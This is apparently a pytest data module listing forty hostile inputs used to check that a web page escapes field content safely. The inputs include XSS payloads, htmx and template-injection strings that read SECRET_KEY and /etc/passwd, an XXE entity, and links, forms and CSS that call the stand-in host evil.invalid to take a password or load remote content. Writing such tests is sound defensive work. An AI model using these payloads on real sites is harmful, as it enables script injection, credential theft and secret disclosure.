"""Forty hostile texts: what a model, a user or an upstream may put into any field that a page shows.

A text that runs sets `window.__pwned`, opens a dialog, or asks `evil.invalid` for something; none must.
"""

import pytest

RUN = "window.__pwned=1"
AWAY = "https://evil.invalid/x"
LONG = 5000  # characters; what is longer goes into the three texts that are about length

HOSTILE: list[tuple[str, str]] = [
    ("script", f"<script>{RUN}</script>"),
    ("script in capitals, with attributes", f"<ScRiPt x=1 src={AWAY}.js>{RUN}</sCrIpT >"),
    ("svg onload", f"<svg onload={RUN}><g onload={RUN}></g></svg>"),
    ("svg animate", f"<svg><a><animate attributeName=href values=javascript:{RUN} /><text>x</text></a></svg>"),
    ("img onerror", f"<img src=x onerror={RUN}>\"><img src='{AWAY}.png' onerror=\"{RUN}\">"),
    ("handlers of themselves", f"<details open ontoggle={RUN}><input autofocus onfocus={RUN}><video onerror={RUN}><source>"),
    ("out of an attribute", f"\" autofocus onfocus={RUN} x=\"' onmouseover='{RUN}' y='` onclick=`{RUN}`"),
    ("markdown javascript links", f"[a](javascript:{RUN}) [b]( JaVaScRiPt:{RUN} ) [c](java\tscript:{RUN}) [d][e]\n\n[e]: javascript:{RUN}"),
    ("autolinks", f"<javascript:{RUN}> <vbscript:x> <{AWAY}> javascript:{RUN} www.evil.invalid"),
    ("data uris", "[x](data:text/html;base64,PHNjcmlwdD53aW5kb3cuX19wd25lZD0xPC9zY3JpcHQ+) ![y](data:image/svg+xml,<svg/onload=alert(1)>)"),
    ("markdown images elsewhere", f"![pixel]({AWAY}.gif) ![a\" onerror=\"{RUN}]({AWAY}.png \"t\" onload={RUN}) [![i]({AWAY})](javascript:{RUN})"),
    ("django template syntax", "{{ settings.SECRET_KEY }} {% load x %} {% include '/etc/passwd' %} {# #} {{ 7|add:7 }} {% endblock %}"),
    ("other template syntax", "${7*7} #{7*7} <%= 7*7 %> {{7*7}} {{constructor.constructor('window.__pwned=1')()}} [[${7*7}]]"),
    ("hx attributes", f"<div hx-get=/runs/ hx-trigger=load hx-on:load='{RUN}' hx-swap=outerHTML hx-target=body data-hx-get=/runs/>x</div>"),
    ("hx-partial", f"<hx-partial hx-target=\"body\" hx-swap=\"innerHTML\"><h1>Gone</h1><script>{RUN}</script></hx-partial>"),
    ("out-of-band swap", "<div id=\"main\" hx-swap-oob=\"true\">Gone</div><template><main id=main></main></template><title>Gone</title>"),
    ("our closing tags", f"</span></td></tr></tbody></table></div></section></main></body></html><main id=\"main\">{RUN}</main>"),
    ("closing raw text", f"</textarea></title></style></script></noscript></template></iframe></pre></code><img src=x onerror={RUN}>"),
    ("css", "<style>*{display:none!important;background:url(https://evil.invalid/c)}</style><b style=\"position:fixed;inset:0;background:url('https://evil.invalid/d')\">x</b>"),
    ("iframes and their like", f"<iframe src=\"javascript:{RUN}\" srcdoc=\"<script>parent.__pwned=1</script>\"></iframe><object data={AWAY}></object><embed src={AWAY}><portal src={AWAY}>"),
    ("meta, base and link", f"<meta http-equiv=refresh content=\"0;url={AWAY}\"><base href=\"https://evil.invalid/\"><link rel=stylesheet href={AWAY}.css>"),
    ("form", "<form action=https://evil.invalid/ method=post><input name=password><button formaction=javascript:window.__pwned=1>Sign in</button></form>"),
    ("bidi overrides", "run_\u202egpj.exe\u202c \u2066isolated\u2069 \u202aembedded \u2067 not closed \u061c\u200f"),
    ("zero width and controls", "pass\u200bword\u200c \u200d\ufeff\u2060 soft\u00adhyphen tab\tbell\x07 backspace\x08 del\x7f c1\x9b"),
    ("nul and lone surrogates", "a\x00b<scr\x00ipt>c\ud800d\udfff\ufffe\uffff"),
    ("json 5,000 deep", "[" * 5000 + "]" * 5000),
    ("json objects 1,000 deep", '{"a":' * 1000 + '"<script>window.__pwned=1</script>"' + "}" * 1000),
    ("json with hostile keys", '{"__proto__": {"x": 1}, "<img src=x onerror=window.__pwned=1>": "</pre><script>window.__pwned=1</script>", "' + "k" * 3000 + '": 1e999, "n": NaN}'),
    ("a long line without a space", "W" * 20_000),
    ("ansi escapes", "\x1b[31mred\x1b[0m \x1b]8;;javascript:window.__pwned=1\x07link\x1b]8;;\x07 \x1b]0;title\x07 \x1b[2J"),
    ("entities", f"&lt;script&gt;{RUN}&lt;/script&gt; &#60;img src=x onerror={RUN}&#62; &amp;lt;b&amp;gt; &NotAnEntity; &#x3c;b&#x3e; &#0; &#xd800;"),
    ("unclosed comments and cdata", f"<!-- <b> --!> <!--><script>{RUN}</script> <![CDATA[ <b>]]> <?xml version='1.0'?> <!DOCTYPE html [<!ENTITY x SYSTEM 'file:///etc/passwd'>]> <!--"),
    ("mutations of the parser", f"<svg></p><style><a id=\"</style><img src=1 onerror={RUN}>\"><math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror={RUN}&gt;\">"),
    ("noscript and foreign content", f"<noscript><p title=\"</noscript><img src=x onerror={RUN}>\"><math href=javascript:{RUN}>x</math><svg><foreignObject><iframe onload={RUN}></foreignObject></svg>"),
    ("line separators", "one\u2028two\u2029three\u0085four\x0bfive\x0csix\r\nseven\rX-Injected: yes\r\n\r\n<b>"),
    ("right to left and marks", "שלום <b>עולם</b> مرحبا " + "Z\u0351\u036f\u0343\u0363" * 200),
    ("emoji", "👩\u200d👩\u200d👧\u200d👦🏳\ufe0f\u200d🌈" * 150),
    ("urls that deceive", f"https://trusted.example@evil.invalid/ [https://bank.example]({AWAY}) http://xn--e1awd7f.com https:\\\\evil.invalid //evil.invalid/x [go](//evil.invalid) [up](/accounts/logout/) <a href=\"/x\" target=_blank>"),
    ("fence info and table bomb", f"```\"><script>{RUN}</script> onload={RUN}\ncode</code></pre><script>{RUN}</script>\n```\n\n" + "|a" * 300 + "|\n" + "|-" * 300 + "|\n" + "|`x" * 300 + "|"),
    ("nesting 500 deep", ">" * 500 + " quote\n\n" + "\n".join("  " * depth + f"- item <b {RUN}>" for depth in range(60)) + "\n" + "*_" * 500 + "[" * 500 + "x" + "](" * 500),
]  # fmt: skip


def every_tenth(cases: dict[str, object]) -> list[object]:
    """Marks all other cases as long: they go the same way through the program."""
    marks = ([pytest.mark.long] if at % 10 else [] for at in range(len(cases)))
    return [pytest.param(case, id=name, marks=more) for (name, case), more in zip(cases.items(), marks, strict=True)]
